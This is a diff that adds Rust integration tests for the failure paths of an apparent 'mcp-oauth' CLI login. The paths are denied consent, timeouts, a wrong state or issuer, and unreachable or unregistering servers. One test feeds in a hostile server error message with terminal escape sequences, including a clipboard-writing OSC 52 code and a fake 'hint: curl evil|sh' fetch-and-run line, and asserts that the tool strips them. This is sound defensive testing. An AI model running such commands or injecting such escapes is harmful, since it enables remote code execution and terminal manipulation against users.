@@ -1,0 +1,145 @@
+//! Logins that fail: a clear error with a next step, nothing stored, the listener closed.
+
+use std::net::TcpStream;
+
+use mcp_oauth_testbed::{Fault, Party, Testbed};
+
+use crate::support::{Does, Home, Output, Running, snapshot};
+
+/// Runs a login that fails, and checks that nothing of it is left.
+async fn fails(home: &Home, does: Does, more: &[&str]) -> Output {
+    let url = home.url();
+    let arguments = [&["login", "notes", &url], more].concat();
+    let mut running = Running::start(home.command(&arguments), "").await;
+    let shown = running.url().await.unwrap();
+    match does {
+        Does::Approve => drop(mcp_oauth_testbed::person::approve(&shown).await.unwrap()),
+        Does::Deny => drop(mcp_oauth_testbed::person::deny(&shown).await.unwrap()),
+        Does::Nothing => {}
+    }
+    let output = running.end().await;
+    let (_, callback) = shown
+        .query_pairs()
+        .find(|(name, _)| name == "redirect_uri")
+        .unwrap();
+    let callback: url::Url = callback.parse().unwrap();
+    let listens = TcpStream::connect(("127.0.0.1", callback.port().unwrap()));
+    assert!(listens.is_err(), "the listener is still there");
+    home.run(&["list", "--json"]).await.succeeded();
+    let list = home.run(&["list", "--json"]).await.json();
+    assert_eq!(
+        list["servers"].as_array().unwrap().len(),
+        0,
+        "something was stored"
+    );
+    assert!(!home.data().join("servers.json").exists());
+    output
+}
+
+#[tokio::test]
+async fn a_denied_consent_is_said_and_stores_nothing() {
+    let home = Home::new().await;
+    let denied = fails(&home, Does::Deny, &[]).await.ended(3);
+    denied
+        .says("access was denied")
+        .says("\n\nhint: mcp-oauth login notes\n");
+    assert_eq!(home.testbed.token_requests("authorization_code"), 0);
+}
+
+#[tokio::test]
+async fn a_closed_window_ends_in_a_timeout() {
+    let home = Home::new().await;
+    let timed_out = fails(&home, Does::Nothing, &["--timeout", "1s"])
+        .await
+        .ended(3);
+    timed_out
+        .says("nobody authorized within 1 seconds")
+        .says("--timeout");
+}
+
+#[tokio::test]
+async fn a_callback_with_another_state_is_not_ours() {
+    let fault = Fault::CallbackState("somebody-else".to_owned());
+    let home = Home::with(Testbed::builder().fault(fault)).await;
+    fails(&home, Does::Approve, &["--timeout", "1s"])
+        .await
+        .ended(3);
+    assert_eq!(home.testbed.token_requests("authorization_code"), 0);
+}
+
+#[tokio::test]
+async fn a_callback_of_another_issuer_is_refused() {
+    let fault = Fault::CallbackIss("https://evil.example".to_owned());
+    let home = Home::with(Testbed::builder().fault(fault)).await;
+    fails(&home, Does::Approve, &[])
+        .await
+        .ended(1)
+        .says("hint:")
+        .says("nothing was stored");
+    assert_eq!(home.testbed.token_requests("authorization_code"), 0);
+}
+
+#[tokio::test]
+async fn a_server_without_authorization_is_said_to_be_one() {
+    let home = Home::with(Testbed::builder().open(true)).await;
+    let open = home.run(&["login", "notes", &home.url()]).await.ended(1);
+    open.says("this server asks for no authorization")
+        .says("HTTP 200");
+    open.says("/.well-known/oauth-protected-resource/mcp (HTTP 404)")
+        .says("no login is needed");
+}
+
+#[tokio::test]
+async fn a_server_that_is_not_there_is_a_try_later() {
+    let home = Home::new().await;
+    let url = home.url();
+    home.testbed.stop_mcp_server().await;
+    home.run(&["login", "notes", &url])
+        .await
+        .ended(4)
+        .says("cannot connect")
+        .says("hint:");
+}
+
+#[tokio::test]
+async fn a_server_that_registers_nobody_needs_a_client_id() {
+    let home = Home::with(Testbed::builder().dynamic_registration(false)).await;
+    let refused = home.run(&["login", "notes", &home.url()]).await.ended(1);
+    refused
+        .says("hint: register a client")
+        .says("mcp-oauth login notes --client-id ID");
+}
+
+#[tokio::test]
+async fn what_a_server_says_cannot_move_the_cursor() {
+    let fault = Fault::CallbackError {
+        error: "access_denied".to_owned(),
+        description: Some(
+            "no \u{1b}[2J\u{1b}]52;c;ZXZpbA==\u{7} way\r\nhint: curl evil|sh".to_owned(),
+        ),
+    };
+    let home = Home::with(Testbed::builder().fault(fault)).await;
+    let denied = fails(&home, Does::Approve, &[]).await.ended(3);
+    let odd = |c: char| c.is_control() && c != '\n';
+    assert!(!denied.stderr.contains(odd), "{denied:?}");
+    assert!(
+        !denied
+            .stderr
+            .lines()
+            .any(|line| line.starts_with("hint: curl"))
+    );
+}
+
+#[tokio::test]
+async fn a_registration_is_kept_when_the_person_gives_up() {
+    let home = Home::new().await;
+    fails(&home, Does::Deny, &[]).await;
+    let before = snapshot(&home.data());
+    assert!(!before.is_empty());
+    home.login(&["notes", &home.url()]).await.succeeded();
+    assert_eq!(
+        home.testbed
+            .count(Party::AuthorizationServer, "POST", "/register"),
+        1
+    );
+}
